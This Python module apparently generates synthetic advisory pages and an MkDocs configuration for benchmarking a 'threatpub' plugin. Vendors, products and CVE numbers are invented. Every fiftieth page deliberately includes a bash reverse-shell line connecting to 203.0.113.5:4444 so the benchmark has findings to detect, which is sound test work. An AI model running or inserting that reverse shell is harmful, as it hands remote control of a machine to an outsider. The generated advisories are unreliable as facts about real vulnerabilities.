"""Synthetic advisory sites for the benchmark: realistic pages, deterministic content.

Every tenth page is held (operator opinion missing) and every fiftieth carries a reverse
shell in a code block, so the benchmark exercises findings, not only clean pages.
"""

from __future__ import annotations

import random
from pathlib import Path

__all__ = ["page_text", "write_site"]

FRONT_MATTER = """\
---
title: "Advisory {n}: {issue} in {product}"
date: 2026-10-{day:02d}
threatpub:
  kind: vulnerability
  published: 2026-11-02T10:00+08:00
  classification: public
  target:
    operator: {vendor}
    system: {product}
{opinion}  repair:
    status: fixed
    date: 2026-10-28
    reference: "release {version}"
  notifications:
    - authority: cac
      level: national
      date: 2026-10-05
      reference: CAC-2026-{n:04d}
---

"""

OPINION = """\
  operator_opinion:
    status: received
    date: 2026-10-20
    reference: PSIRT-2026-{n:04d}
"""

SECTION = """\
## {heading}

The {component} of {product} {version} mishandles {input}, which lets a remote attacker
{impact}. The flaw was reported through coordinated disclosure and {vendor} released a fix
on 2026-10-28; exploitation in the wild has not been observed. Versions 6.3.4.1 and
0.10.0.1 of the companion tool are not affected (CWE-{cwe}, CVE-2026-{cve}).

| Product | Affected | Fixed |
|---|---|---|
| {product} | before {version} | {version} |

```bash
pip install --upgrade example-{slug}=={version}
grep -r "max_header_size" /etc/{slug}/
```

"""

SHELL = """\
## Lab notes

```bash
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
```

"""

ISSUES = ["Heap overflow", "Authentication bypass", "Path traversal", "SQL injection",
          "Use after free", "Improper certificate validation", "Integer overflow"]
COMPONENTS = ["header parser", "session manager", "file upload handler", "query builder",
              "TLS client", "image decoder", "configuration importer"]
INPUTS = ["a crafted header", "an unbound session token", "a relative path",
          "a quoted identifier", "a truncated record", "a self-signed chain"]
IMPACTS = ["crash the service", "reach administrative pages", "read arbitrary files",
           "change stored records", "run code in the worker process"]
HEADINGS = ["Overview", "Details", "Affected versions", "Remediation", "Mitigation",
            "Timeline", "Credits", "References"]


def page_text(n: int, size: int = 2_000) -> str:
    """Page ``n`` of about ``size`` characters (at least one front matter and section)."""
    rng = random.Random(n)
    vendor = f"Example Vendor {n % 97} Ltd."
    product = f"EX-{100 + n % 900} gateway"
    version = f"{1 + n % 5}.{n % 10}.{n % 7}"
    text = FRONT_MATTER.format(
        n=n, day=1 + n % 28, issue=rng.choice(ISSUES), product=product, vendor=vendor,
        version=version, opinion="" if n % 10 == 9 else OPINION.format(n=n),
    )
    text += f"# Advisory {n}\n\n"
    if n % 50 == 49:
        text += SHELL
    while len(text) < size:
        text += SECTION.format(
            heading=rng.choice(HEADINGS), component=rng.choice(COMPONENTS), product=product,
            version=version, input=rng.choice(INPUTS), impact=rng.choice(IMPACTS),
            vendor=vendor, cwe=rng.randrange(20, 1000), cve=rng.randrange(10_000, 99_999),
            slug=f"lib{n % 13}",
        )
    return text


MKDOCS_YML = """\
site_name: Benchmark advisories
site_url: https://advisories.example.org/
use_directory_urls: true
plugins:
  - search
{plugin}"""

PLUGIN = """\
  - threatpub:
      profiles: [cac-2019]
      jurisdiction: [CN]
      timezone: Asia/Shanghai
      include: ["advisories/**"]
"""


def write_site(root: Path, pages: int, size: int = 2_000, plugin: bool = True) -> Path:
    """Write an advisory site of ``pages`` pages under ``root``; returns its mkdocs.yml."""
    docs = root / "docs"
    (docs / "advisories").mkdir(parents=True, exist_ok=True)
    (docs / "index.md").write_text("# Benchmark advisories\n\nSynthetic pages.\n")
    for n in range(pages):
        # Folders of 100 keep the nav (and the default theme's menus) realistic.
        folder = docs / "advisories" / f"batch-{n // 100:03d}"
        folder.mkdir(exist_ok=True)
        (folder / f"advisory-{n:05d}.md").write_text(page_text(n, size), encoding="utf-8")
    config = root / "mkdocs.yml"
    config.write_text(MKDOCS_YML.format(plugin=PLUGIN if plugin else ""), encoding="utf-8")
    return config
